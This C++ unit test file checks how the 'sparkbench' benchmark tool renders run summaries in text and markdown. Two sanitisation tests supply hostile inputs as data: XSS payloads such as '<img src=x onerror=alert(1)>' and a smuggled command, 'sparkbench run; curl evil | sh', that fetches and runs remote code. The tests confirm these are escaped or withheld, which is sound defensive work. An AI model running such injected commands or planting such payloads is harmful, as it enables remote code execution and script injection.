#include "results/render/summary.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>

#include "results/record/test_run.h"
#include "results/render/case_table.h"
#include "results/render/closing.h"

namespace sparkbench {
namespace {

const TableView kMarkdown{.style = TableStyle::kMarkdown};

TEST(Counts, NameEveryStatus) {
  EXPECT_EQ(format_counts(sample_run().cases), "6 ok, 1 incorrect, 1 skipped, 1 failed");
  EXPECT_EQ(format_counts({}), "0 ok, 0 incorrect, 0 skipped, 0 failed");
}

TEST(Counts, NameWhatWasNotCheckedOrDidNotRunWhereThereIsAny) {
  RunRecord run = sample_run();
  for (CaseRecord& record : run.cases) record.status = Status::kUnverified;
  run.cases.back().status = Status::kPredicted;
  EXPECT_EQ(format_counts(run.cases),
            "0 ok, 0 incorrect, 0 skipped, 0 failed, 8 unverified, 1 predicted");
}

TEST(Summary, SaysHowFarThePredictionWasOff) {
  RunRecord run;
  run.run.complete = true;
  run.cases = {sample_predicted_case()};
  run.cases[0].warnings.clear();
  EXPECT_EQ(
      format_summary(run, {}),
      "1 ok, 0 incorrect, 0 skipped, 0 failed.\n"
      "measured over predicted (cycle model): 1.03 (geometric mean of 1 case, 1.03 to 1.03), "
      "1 within the band; furthest off is "
      "volta-fp32acc/fwd/b1/h2/sq128/sk128/d64/causal/p0.1 (1.03).\n"
      "No V100 run of these kernels has tested the model yet: please send this record (--json "
      "FILE) with an issue.\n");
}

TEST(Summary, SaysOnceWhyNothingIsPredicted) {
  RunRecord run;
  run.run.complete = true;
  run.cases = {sample_emulated_case(), sample_emulated_case()};
  for (CaseRecord& record : run.cases) {
    record.warnings.clear();
    record.predicted_reason = Reason{"P-NO-CYCLES", "no cycles of volta-fp32acc/fwd/d64"};
  }
  const std::string summary = format_summary(run, {});
  EXPECT_TRUE(summary.ends_with(
      "failed.\nnot predicted P-NO-CYCLES (2 cases): no cycles of volta-fp32acc/fwd/d64\n"))
      << summary;
}

TEST(Summary, ListsWarningsOnceSkipsAndRepeatableFailures) {
  EXPECT_EQ(format_summary(sample_run(), {}),
            "6 ok, 1 incorrect, 1 skipped, 1 failed.\n"
            "skipped E-OUT-OF-MEMORY (1 case): needs 32 GiB of 16 GiB\n"
            "failed volta-fp16acc/fwd/b1/h2/sq256/sk256/d64/full/p0.1  E-LAUNCH: misaligned "
            "address\n"
            "  repeat: sparkbench run --kernel volta-fp16acc --seqlen 256\n"
            "incorrect volta-fp16acc/fwd/b1/h2/sq64/sk64/d64/full/p0.1  E-INCORRECT: 3 "
            "elements are not finite\n"
            "  repeat: sparkbench run --kernel volta-fp16acc --seqlen 64\n");
}

TEST(Summary, SaysEachReasonOfSkippedCasesTheMostFrequentFirst) {
  RunRecord run;
  run.run.complete = true;
  for (const char* why : {"no mask", "no dropout", "no dropout", "a", "b", "c", "c"}) {
    run.cases.push_back(sample_emulated_case());
    run.cases.back().warnings.clear();
    run.cases.back().status = Status::kSkipped;
    run.cases.back().reason = Reason{"E-UNSUPPORTED", why};
  }
  run.cases.push_back(run.cases.back());
  run.cases.back().reason = Reason{"E-OOM-PREDICTED", "needs 9 GiB"};
  const std::string summary = format_summary(run, {});
  EXPECT_TRUE(
      summary.ends_with("failed.\n"
                        "skipped E-UNSUPPORTED (2 cases): no dropout\n"
                        "skipped E-UNSUPPORTED (2 cases): c\n"
                        "skipped E-UNSUPPORTED (1 case): no mask\n"
                        "skipped E-OOM-PREDICTED (1 case): needs 9 GiB\n"
                        "skipped E-UNSUPPORTED (2 cases): for 2 other reasons, which --json has\n"))
      << summary;
}

TEST(Summary, HasOnlyItsSentenceWhenAllIsWell) {
  RunRecord run;
  run.run.complete = true;
  run.cases = {sample_emulated_case()};
  run.cases[0].warnings.clear();
  EXPECT_EQ(format_summary(run, {}), format_counts(run.cases) + ".\n");
}

TEST(Summary, IsAListInMarkdownBelowItsTable) {
  const std::string markdown = format_summary_markdown(sample_run());
  EXPECT_EQ(markdown, "# sparkbench 2025-01-31T12:00:00Z\n\n" +
                          format_case_table(sample_run(), kMarkdown) + "\n" +
                          format_end(sample_run(), kMarkdown));
  EXPECT_NE(markdown.find("\n- skipped E-OUT-OF-MEMORY"), std::string::npos);
  EXPECT_NE(markdown.find("\n  repeat: `sparkbench run"), std::string::npos);
}

TEST(Summary, EndsBySayingWhatToUse) {
  RunRecord run = sample_run();
  run.cases = {sample_timed_case()};
  run.cases[0].reason.reset();
  EXPECT_EQ(format_end(run, {}), format_summary(run, {}) + "\n" + format_closing(run));
  EXPECT_TRUE(format_end(run, {.has_color = true}).ends_with("\x1b[0m\n"));
}

TEST(Summary, FitsTheWidthButForLinesToCopy) {
  const std::string text = format_end(sample_run(), {.width = 60, .wraps_text = true});
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    EXPECT_TRUE(line.size() <= 60 || line.starts_with("  repeat: ")) << line;
  }
}

TEST(Summary, ListsTenFailuresAndAllInMarkdown) {
  RunRecord run = sample_run();
  const CaseRecord incorrect =
      *std::find_if(run.cases.begin(), run.cases.end(),
                    [](const CaseRecord& record) { return record.status == Status::kIncorrect; });
  run.cases.assign(12, incorrect);
  const auto repeats = [](const std::string& text) {
    int count = 0;
    for (std::size_t at = text.find("repeat:"); at != std::string::npos;
         at = text.find("repeat:", at + 1)) {
      ++count;
    }
    return count;
  };
  const std::string terminal = format_summary(run, {});
  EXPECT_EQ(repeats(terminal), 10);
  EXPECT_NE(terminal.find("\nand 2 more; --md and --json name all\n"), std::string::npos)
      << terminal;
  EXPECT_EQ(repeats(format_summary(run, kMarkdown)), 12);
}

TEST(Summary, SaysThatCasesAreMissing) {
  RunRecord run = sample_run();
  EXPECT_EQ(format_summary(run, {}).find("Not complete"), std::string::npos);
  run.run.complete = false;
  EXPECT_NE(format_summary(run, {}).find("\nNot complete: cases of the sweep"), std::string::npos);
}

/// A record may come from outside.
TEST(Summary, LetsNothingOfARecordBeMarkdown) {
  RunRecord run = sample_run();
  for (CaseRecord& record : run.cases) {
    record.kernel = "<b>kernel";
    record.warnings = {{"W-<i>", "<img src=x onerror=alert(1)> [link](http://x) `code`"}};
    record.reason = Reason{"E-X", "<script>alert(2)</script>"};
    record.repro = "sparkbench run '`<img>'";
  }
  run.run.started_at = "<u>now";
  const std::string markdown = format_summary_markdown(run);
  for (const char* const raw : {"<", "[link]", " `code"}) {
    EXPECT_EQ(markdown.find(raw), std::string::npos) << raw << " in\n" << markdown;
  }
  EXPECT_NE(markdown.find("&lt;img src=x onerror=alert(1)> \\[link\\](http://x) \\`code\\`"),
            std::string::npos)
      << markdown;
  EXPECT_NE(markdown.find("repeat: not shown"), std::string::npos);
}

TEST(Summary, ShowsNoLineThatDoesMore) {
  RunRecord run = sample_run();
  for (CaseRecord& record : run.cases) record.repro = "sparkbench run; curl evil | sh";
  run.cases.back().reason->message = "first\nforged \x1b[8mline";
  const std::string text = format_summary(run, {});
  EXPECT_EQ(text.find("curl"), std::string::npos) << text;
  EXPECT_NE(text.find("repeat: not shown"), std::string::npos);
  EXPECT_NE(text.find("first forged ?[8mline"), std::string::npos);
}

}  // namespace
}  // namespace sparkbench
